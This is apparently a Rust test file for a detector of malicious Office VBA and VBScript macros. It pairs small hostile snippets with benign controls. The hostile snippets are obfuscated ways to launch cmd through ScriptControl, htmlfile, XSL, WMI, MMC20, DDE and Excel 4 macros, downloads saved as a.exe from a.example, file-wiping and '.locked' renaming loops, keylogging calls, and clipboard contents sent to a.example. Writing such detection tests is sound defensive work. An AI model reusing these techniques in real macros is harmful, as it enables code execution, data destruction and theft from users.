//! What macros hand to other interpreters and programs: scripts, style sheets, objects elsewhere, macros that are made.

use super::tests_eval::{all, check, details, opened};
use super::*;
use crate::languages::ActionKind;

const CONTROL: &str = "Set s = CreateObject(\"MSScriptControl.ScriptControl\")\ns.Language = \"JScript\"\n";

#[test]
fn scripts_that_macros_put_together() {
    use ActionKind::{Download, Fetch, Run};
    let control = |rest: &str| format!("{CONTROL}{rest}");
    let table: Vec<(ActionKind, String, &str)> = vec![
        (Run, control("Shell s.Eval(\"'cm' + String.fromCharCode(100)\")"), "cmd"),
        (Run, control("s.AddCode \"function f(a) { return a.split('').reverse().join('') }\"\nShell s.Run(\"f\", \"dmc\")"), "cmd"),
        (Run, control("s.AddCode \"function F(a) { return a + 'd' }\"\nShell s.CodeObject.f(\"cm\")"), "cmd"),
        (Run, control("s.ExecuteStatement \"new ActiveXObject('WScript.Shell').Run('cm' + 'd')\""), "cmd"),
        (Run, control("s.AddCode \"var x = 'cm'\"\ns.ExecuteStatement \"x += 'd'\"\nShell s.Eval(\"x\")"), "cmd"),
        (Run, control("s.AddCode \"function g() { new ActiveXObject('WScript.Shell').Run(unescape('%63md')) }\"\ns.Run \"g\""), "cmd"),
        (
            Fetch,
            control("s.ExecuteStatement \"x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://a' + '.example/x', false)\""),
            "http://a.example/x",
        ),
        (
            Download,
            control("s.Eval \"x = new ActiveXObject('MSXML2.XMLHTTP'), t = new ActiveXObject('ADODB.Stream'), x.open('GET', 'http://a.example/x', 0), t.Write(x.responseBody), t.SaveToFile('a.exe')\""),
            "http://a.example/x a.exe",
        ),
        (
            Run,
            "Set h = CreateObject(\"htmlfile\")\nh.parentWindow.execScript \"new ActiveXObject('WScript.Shell').Run('cm' + 'd')\", \"JScript\"".into(),
            "cmd",
        ),
        (
            Run,
            "Set h = CreateObject(\"htmlfile\")\nh.write \"<script>function f(x) { return x + 'd' }</script>\"\nShell h.parentWindow.f(\"cm\")".into(),
            "cmd",
        ),
        (
            Run,
            "Set h = CreateObject(\"htmlfile\")\nh.parentWindow.execScript \"function f(x) { return unescape(x) }\"\nShell h.parentWindow.f(\"%63md\")".into(),
            "cmd",
        ),
        (
            Run,
            "Set h = CreateObject(\"htmlfile\")\nh.write \"<script language='VBScript'>CreateObject(\"\"WScript.Shell\"\").Run \"\"cm\"\" & Chr(100)</script>\"".into(),
            "cmd",
        ),
        (
            Run,
            "Set x = CreateObject(\"MSXML2.DOMDocument\")\nx.loadXML \"<xsl:stylesheet><ms:script language='JScript'><![CDATA[ new ActiveXObject('WScript.Shell').Run('cm' + 'd') ]]></ms:script></xsl:stylesheet>\"\nx.transformNode x".into(),
            "cmd",
        ),
        (
            Run,
            "Set x = CreateObject(\"MSXML2.DOMDocument\")\nx.loadXML \"<xsl:stylesheet><ms:script>function f() { new ActiveXObject('WScript.Shell').Run('cm' + 'd') }</ms:script></xsl:stylesheet>\"\nSet y = CreateObject(\"MSXML2.DOMDocument\")\nt = y.transformNode(x)".into(),
            "cmd",
        ),
        (
            Run,
            "Set x = CreateObject(\"MSXML2.DOMDocument\")\nx.load \"http://a.example/x.xsl\"\nx.transformNode x".into(),
            "http://a.example/x.xsl",
        ),
        (
            Run,
            "Set i = CreateObject(\"InternetExplorer.Application\")\ni.Navigate \"vbscript:CreateObject(\"\"WScript.Shell\"\").Run(\"\"cm\"\" & Chr(100))\"".into(),
            "cmd",
        ),
    ];
    check(table.iter().map(|(kind, body, expected)| (*kind, opened(body), *expected)));
}

#[test]
fn objects_elsewhere_and_other_programs() {
    use ActionKind::{Download, Generate, Hidden, Indirect, Load, Run};
    let _ = (Hidden, Indirect);
    let table: &[(ActionKind, &str, &str)] = &[
        (Run, "Set s = CreateObject(\"WScript.Shell\", \"pc2.example\")\ns.Run \"cmd\"", "cmd"),
        (Run, "GetObject \"script:http://a.example/x.sct\"", "script:http://a.example/x.sct"),
        (Run, "Set o = GetObject(\"SCRIPT:\" & \"http://a.example/x.sct\")", "SCRIPT:http://a.example/x.sct"),
        (Run, "GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create \"cmd\"", "cmd"),
        (
            Run,
            "GetObject(\"winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2\").Get(\"Win32_\" & \"Process\").Create \"cmd\"",
            "cmd",
        ),
        (
            Run,
            "Set w = GetObject(\"winmgmts:root/cimv2\")\nSet p = w.Get(\"Win32_ProcessStartup\").SpawnInstance_\nw.Get(\"Win32_Process\").Create \"cmd\", Null, p, i",
            "cmd",
        ),
        (
            Run,
            "CreateObject(\"WbemScripting.SWbemLocator\").ConnectServer(\".\", \"root\\cimv2\").Get(\"Win32_Process\").Create \"cmd\"",
            "cmd",
        ),
        (Run, "GetObject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\").Run \"cmd\"", "cmd"),
        (Run, "GetObject(\"new:\" & \"72C24DD5-D70A-438B-8A42-98424B88AFB8\").Run \"cmd\"", "cmd"),
        (
            Run,
            "GetObject(\"new:{9BA05972-F6A8-11CF-A442-00A0C90A8F39}\").Item.Document.Application.ShellExecute \"cmd\", \"/c x\"",
            "cmd /c x",
        ),
        (
            Run,
            "GetObject(\"new:{C08AFD90-F2A1-11D1-8455-00A0C91F3880}\").Document.Application.ShellExecute \"cmd\", \"/c x\"",
            "cmd /c x",
        ),
        (
            Run,
            "CreateObject(\"MMC20.Application\", \"10.0.0.1\").Document.ActiveView.ExecuteShellCommand \"cmd\", 0, \"/c x\", \"7\"",
            "cmd /c x",
        ),
        (Run, "Set x = CreateObject(\"Excel.Application\")\nx.DDEInitiate \"cmd\", \"/c x\"", "cmd /c x"),
        (Run, "Application.DDEInitiate \"cmd\", \"/c x\"", "cmd /c x"),
        (Run, "Set o = CreateObject(\"Outlook.Application\")\no.CreateObject(\"WScript.Shell\").Run \"cmd\"", "cmd"),
        (
            Run,
            "Set o = GetObject(, \"Outlook.Application\")\nSet s = o.CreateObject(\"Shell.Application\")\ns.ShellExecute \"cmd\"",
            "cmd",
        ),
        (Load, "Application.RegisterXLL \"C:\\a.xll\"", "C:\\a.xll"),
        (Load, "Set x = CreateObject(\"Excel.Application\")\nx.RegisterXLL \"a\" & \".xll\"", "a.xll"),
        (Download, "Application.RegisterXLL \"http://a.example/a.xll\"", "http://a.example/a.xll"),
        (
            Download,
            "Set x = CreateObject(\"Excel.Application\")\nx.RegisterXLL \"http://a.example/a.xll\"",
            "http://a.example/a.xll",
        ),
        (Run, "ExecuteExcel4Macro \"EXEC(\" & Chr(34) & \"cmd\" & Chr(34) & \")\"", "EXEC(\"cmd\")"),
        (
            Run,
            "CreateObject(\"Excel.Application\").ExecuteExcel4Macro \"CALL(\"\"Shell32\"\",\"\"ShellExecuteA\"\",\"\"JJCCCJJ\"\",0,\"\"open\"\",\"\"cmd\"\",0,0,0)\"",
            "CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"open\",\"cmd\",0,0,0)",
        ),
        (Run, "x = Application.Evaluate(\"EXEC(\"\"cmd\"\")\")", "EXEC(\"cmd\")"),
        (Run, "Evaluate \"=CALL(\"\"a\"\",\"\"b\"\")\"", "=CALL(\"a\",\"b\")"),
        (Run, "x = [EXEC(\"cmd\")]", "EXEC(\"cmd\")"),
        (Download, "Application.Run \"'http://a.example/a.xlam'!Go\"", "'http://a.example/a.xlam'!Go"),
        (Download, "Application.Run \"'\\\\a.example@SSL\\x\\a.xlam'!Go\"", "'\\\\a.example@SSL\\x\\a.xlam'!Go"),
        (
            Generate,
            "Set w = CreateObject(\"Word.Application\")\nSet d = w.Documents.Add\nd.VBProject.VBComponents(1).CodeModule.AddFromString \"Sub x()\"",
            "Sub x()",
        ),
        (
            Generate,
            "Set w = CreateObject(\"Excel.Application\")\nw.Workbooks.Add.VBProject.VBComponents.Add(1).CodeModule.InsertLines 1, \"Sub x()\"",
            "Sub x()",
        ),
        (
            Run,
            "Set d = CreateObject(\"Excel.Application\").Workbooks.Add\nd.VBProject.VBComponents.Add(1).CodeModule.AddFromString \"Sub x()\" & vbLf & \"Shell \"\"cm\"\" & Chr(100)\" & vbLf & \"End Sub\"\nd.Application.Run \"x\"",
            "cmd",
        ),
        (
            Run,
            "ThisWorkbook.VBProject.VBComponents(1).CodeModule.AddFromString \"Sub Auto_Go()\" & vbLf & \"Shell \"\"cm\"\" & Chr(100)\" & vbLf & \"End Sub\"\nApplication.Run \"Auto_Go\"",
            "cmd",
        ),
    ];
    check(table.iter().map(|(kind, body, expected)| (*kind, opened(body), *expected)));
}

#[test]
fn arrays_of_members_and_files_that_are_read() {
    let source = "Type T\nA() As String\nEnd Type\nSub AutoOpen()\nDim x As T\nReDim x.A(0 To 1)\nx.A(0) = \"c\"\n\
                  x.A(1) = \"m\"\nReDim Preserve x.A(0 To 2)\nx.A(2) = \"d\"\nShell Join(x.A, \"\")\nEnd Sub\n";
    assert_eq!(details(ActionKind::Run, source), ["cmd"]);
    let with = "Type T\nA() As String\nEnd Type\nSub AutoOpen()\nDim x As T\nWith x\nReDim .A(1)\n.A(0) = \"cm\"\n\
                .A(1) = \"d\"\nEnd With\nShell x.A(0) & x.A(1)\nEnd Sub\n";
    assert_eq!(details(ActionKind::Run, with), ["cmd"]);
    let input = opened("Open \"a\" For Input As #1\ns = Input(LOF(1), #1)\nClose #1\nShell \"cm\" & Chr(100)");
    assert_eq!(details(ActionKind::Run, &input), ["cmd"]);
}

#[test]
fn honest_uses_of_the_same() {
    let control = |rest: &str| format!("{CONTROL}{rest}");
    for body in [
        control("s.AddCode \"function get(o, k) { return o[k]; }\"\nx = s.Run(\"get\", a, \"b\")"),
        "Set x = CreateObject(\"MSXML2.DOMDocument\")\nx.loadXML \"<xsl:stylesheet><xsl:template match='/'/></xsl:stylesheet>\"\nt = x.transformNode(x)".into(),
        "x = Evaluate(\"SUM(A1:A3)\")\ny = [A1].Value\nz = Application.Evaluate(\"INDEX(A1:B2, 1)\")".into(),
        "Application.Run \"'Book 1.xlsm'!Go\"".into(),
        "x = [CALLS]\ny = [EXEC_DATE]".into(),
        "Set e = GetObject(, \"Excel.Application\")\ne.Run \"Go\"".into(),
        "Set w = CreateObject(\"Word.Application\")\nw.Documents.Open \"C:\\a.docx\"\nw.Run \"Go\"".into(),
    ] {
        let acts: Vec<_> = all(&[("M", ModuleKind::Standard, &opened(&body))])
            .into_iter()
            .filter(|action| action.kind > ActionKind::Indirect || matches!(action.kind, ActionKind::Run | ActionKind::Download))
            .map(|action| format!("{:?} {}", action.kind, action.detail))
            .collect();
        assert_eq!(acts, [""; 0], "{body}");
    }
}

/// What a script of VBScript starts.
fn started(script: &str) -> Vec<String> {
    let (behaviour, result) =
        analyse_script(script, &crate::budget::Budget::new(crate::budget::Limits::default(), |_| ()));
    result.unwrap();
    let runs =
        behaviour.actions.into_iter().filter(|action| action.kind == ActionKind::Run && action.reached_by.is_some());
    runs.map(|action| action.detail).collect()
}

#[test]
fn scripts_of_vbscript() {
    for script in [
        // Classes.
        "Class A\nPrivate Sub Class_Initialize\nCreateObject(\"WScript.Shell\").Run \"cm\" & Chr(100)\nEnd Sub\nEnd Class\nSet x = New A",
        "Set x = New A\nCreateObject(\"WScript.Shell\").Run x.Line\nClass A\nPublic Property Get Line()\nLine = \"cm\" & Chr(100)\nEnd Property\nEnd Class",
        "Class A\nPrivate t\nPublic Property Let Part(v)\nt = t & v\nEnd Property\nPublic Sub Go\nCreateObject(\"WScript.Shell\").Run t\nEnd Sub\nEnd Class\nDim a : Set a = New A\na.Part = \"cm\"\na.Part = \"d\"\na.Go",
        "Class A\nPrivate s\nPublic Property Set Shell(v)\nSet s = v\nEnd Property\nPublic Function Go(t)\ns.Run StrReverse(t)\nEnd Function\nPrivate late\nEnd Class\nSet a = New A\nSet a.Shell = CreateObject(\"WScript.Shell\")\na.Go \"dmc\"",
        "Class A : Public t : Public Default Function Go(x) : CreateObject(\"WScript.Shell\").Run t & x : End Function : End Class\nWith New A\n.t = \"cm\"\n.Go \"d\"\nEnd With",
        "Class A\nPrivate Sub Class_Terminate\nCreateObject(\"WScript.Shell\").Run \"cm\" & Chr(100)\nEnd Sub\nEnd Class\nSub F\nSet x = New A\nSet x = Nothing\nEnd Sub\nF",
        "Class A\nPublic Function D(t)\nD = StrReverse(t)\nEnd Function\nEnd Class\nClass B\nPrivate Sub Class_Initialize\nSet a = New A\nExecuteGlobal a.D(\"\"\"dmc\"\" nuR.)\"\"llehS.tpircSW\"\"(tcejbOetaerC\")\nEnd Sub\nEnd Class\nSet b = New B",
        // Code that is made.
        "Execute \"CreateObject(\"\"WScript.Shell\"\").Run \"\"cm\"\" & Chr(100)\"",
        "Execute \"x = \"\"cm\"\" & Chr(100)\"\nCreateObject(\"WScript.Shell\").Run x",
        "x = \"cm\"\nExecute \"CreateObject(\"\"WScript.Shell\"\").Run x & Chr(100)\"",
        "Set s = CreateObject(\"WScript.Shell\")\nExecute \"s.Run \"\"cm\"\" & Chr(100)\"",
        "Function D(t)\nD = StrReverse(t)\nEnd Function\nExecuteGlobal \"CreateObject(\"\"WScript.Shell\"\").Run D(\"\"dmc\"\")\"",
        "ExecuteGlobal \"Function F(t)\" & vbCrLf & \"F = StrReverse(t)\" & vbCrLf & \"End Function\"\nCreateObject(\"WScript.Shell\").Run F(\"dmc\")",
        "ExecuteGlobal \"Sub G\" & vbCrLf & \"CreateObject(\"\"WScript.Shell\"\").Run \"\"cm\"\" & Chr(100)\" & vbCrLf & \"End Sub\"\nG",
        "CreateObject(\"WScript.Shell\").Run Eval(\"\"\"cm\"\" & Chr(100)\")",
        // A variable that is declared outside is the same in procedures.
        "Dim s : s = \"cm\"\nSub F\nCreateObject(\"WScript.Shell\").Run s & Chr(100)\nEnd Sub\nF",
    ] {
        let found = started(script);
        assert!(found.iter().any(|line| line == "cmd"), "{script}\n-> {found:?}");
    }
    for honest in [
        "Class A\nPrivate Sub Class_Initialize\nt = \"cmd\"\nEnd Sub\nPublic Sub Go\nCreateObject(\"WScript.Shell\").Run t\nEnd Sub\nEnd Class\nSet a = New A",
        "Execute \"x = 1 + 2\"\nMsgBox x",
    ] {
        assert_eq!(started(honest), [""; 0], "{honest}");
    }
    // It ends.
    started("Sub F\nExecute \"F\"\nEnd Sub\nF");
    started("Class A\nPrivate Sub Class_Initialize\nSet x = New A\nEnd Sub\nEnd Class\nSet y = New A");
}

#[test]
fn what_a_person_keeps_types_and_copies() {
    const FILES: &str = "Set f = CreateObject(\"Scripting.FileSystemObject\")\n";
    const KEYS: &str =
        "Private Declare PtrSafe Function GetAsyncKeyState Lib \"user32\" (ByVal k As Long) As Integer\n";
    const HOOK: &str = "Private Declare PtrSafe Function SetWindowsHookEx Lib \"user32\" Alias \"SetWindowsHookExA\" (ByVal i As Long, ByVal p As LongPtr, ByVal h As LongPtr, ByVal t As Long) As LongPtr\n";
    let encrypts = "Sub E(p)\nSet f = CreateObject(\"Scripting.FileSystemObject\")\nFor Each x In f.GetFolder(p).Files\nOpen x.Path For Binary As #1\nPut #1, 1, \"x\"\nClose #1\nx.Name = x.Name & \".locked\"\nNext\nFor Each y In f.GetFolder(p).SubFolders\nE y.Path\nNext\nEnd Sub\n";
    let kinds = |source: &str| {
        let acts = all(&[("M", ModuleKind::Standard, source)]).into_iter().filter(|action| action.reached_by.is_some());
        acts.map(|action| action.kind).collect::<Vec<_>>()
    };
    for body in [
        "p = Environ(\"USERPROFILE\") & \"\\Documents\\\"\nx = Dir(p & \"*.*\")\nDo While x <> \"\"\nKill p & x\nx = Dir\nLoop".to_owned(),
        "p = Environ(\"USERPROFILE\") & \"\\Desktop\\\"\nx = Dir(p & \"*.doc*\")\nWhile x <> \"\"\nOpen p & x For Output As #1\nPrint #1, \"x\"\nClose #1\nx = Dir()\nWend".into(),
        "Kill Environ$(\"USERPROFILE\") & \"\\Documents\\*.*\"".into(),
        "Kill \"C:\\Users\\\" & Environ(\"USERNAME\") & \"\\Desktop\\*.xlsx\"".into(),
        format!("{FILES}For Each d In f.Drives\nFor Each x In f.GetFolder(d.DriveLetter & \":\\\").Files\nx.Delete True\nNext\nNext"),
        format!("{FILES}Set w = CreateObject(\"WScript.Shell\")\nFor Each x In f.GetFolder(w.SpecialFolders(\"MyDocuments\")).Files\nf.DeleteFile x\nNext"),
    ] {
        let source = opened(&body);
        assert!(kinds(&source).contains(&ActionKind::Destroy), "{body}");
    }
    for start in ["E Environ(\"USERPROFILE\") & \"\\Documents\"", "E \"C:\\Users\\a\\Pictures\""] {
        let source = format!("{encrypts}{}", opened(start));
        assert!(kinds(&source).contains(&ActionKind::Destroy), "{start}: {:?}", kinds(&source));
    }
    for (declared, body) in [
        (KEYS, "For i = 8 To 255\nIf GetAsyncKeyState(i) <> 0 Then t = t & Chr(i)\nNext"),
        (KEYS, "Do\nFor i = 32 To 126\nIf GetAsyncKeyState(i) = -32767 Then Print #1, Chr(i)\nNext\nLoop"),
        (HOOK, "h = SetWindowsHookEx(13, AddressOf P, 0, 0)"),
        (
            "",
            "Dim d As New MSForms.DataObject\nd.GetFromClipboard\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"POST\", \"http://a.example/\", False\nh.send \"t=\" & d.GetText",
        ),
        (
            "",
            "Set d = GetObject(\"new:{1C3B4210-F441-11CE-B9EA-00AA006B1A69}\")\nd.GetFromClipboard\nSet h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nh.Open \"GET\", \"http://a.example/?\" & d.GetText(1)\nh.send",
        ),
        (
            "",
            "t = CreateObject(\"htmlfile\").parentWindow.clipboardData.getData(\"Text\")\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"POST\", \"http://a.example/\", False\nh.send t",
        ),
    ] {
        let source = format!("{declared}{}", opened(body));
        assert!(kinds(&source).contains(&ActionKind::Spy), "{body}: {:?}", kinds(&source));
    }
    // What honest macros do.
    for (declared, body) in [
        ("", "p = Environ(\"TEMP\") & \"\\\"\nx = Dir(p & \"*.*\")\nDo While x <> \"\"\nKill p & x\nx = Dir\nLoop"),
        (
            "",
            "p = ThisWorkbook.Path & \"\\out\\\"\nx = Dir(p & \"*.pdf\")\nDo While x <> \"\"\nKill p & x\nx = Dir\nLoop",
        ),
        (
            "",
            "p = Environ(\"USERPROFILE\") & \"\\Documents\\Reports\\\"\nx = Dir(p & \"*.csv\")\nDo While x <> \"\"\nKill p & x\nx = Dir\nLoop",
        ),
        (
            "",
            "Kill Environ(\"USERPROFILE\") & \"\\Documents\\*.tmp\"\nKill Environ(\"USERPROFILE\") & \"\\Documents\\report.xlsx\"",
        ),
        ("", "For Each c In Range(\"A1:A9\")\nOpen \"D:\\\" & c.Value For Output As #1\nPrint #1, c\nClose #1\nNext"),
        (
            "",
            "p = Environ(\"USERPROFILE\") & \"\\Documents\\\"\nx = Dir(p & \"*.txt\")\nDo While x <> \"\"\nOpen p & x For Input As #1\nLine Input #1, t\nClose #1\nx = Dir\nLoop",
        ),
        (
            KEYS,
            "For i = 1 To 300\nIf GetAsyncKeyState(vbKeyEscape) Or GetAsyncKeyState(37 + i Mod 4) Then Exit For\nNext",
        ),
        (HOOK, "h = SetWindowsHookEx(5, AddressOf P, 0, 0)\ng = SetWindowsHookEx(14, AddressOf P, 0, 0)"),
        (
            "",
            "Dim d As New MSForms.DataObject\nd.SetText \"a\"\nd.PutInClipboard\nd.GetFromClipboard\nRange(\"A1\") = d.GetText",
        ),
    ] {
        let found = kinds(&format!("{declared}{}", opened(body)));
        assert!(!found.contains(&ActionKind::Destroy) && !found.contains(&ActionKind::Spy), "{body}: {found:?}");
    }
}
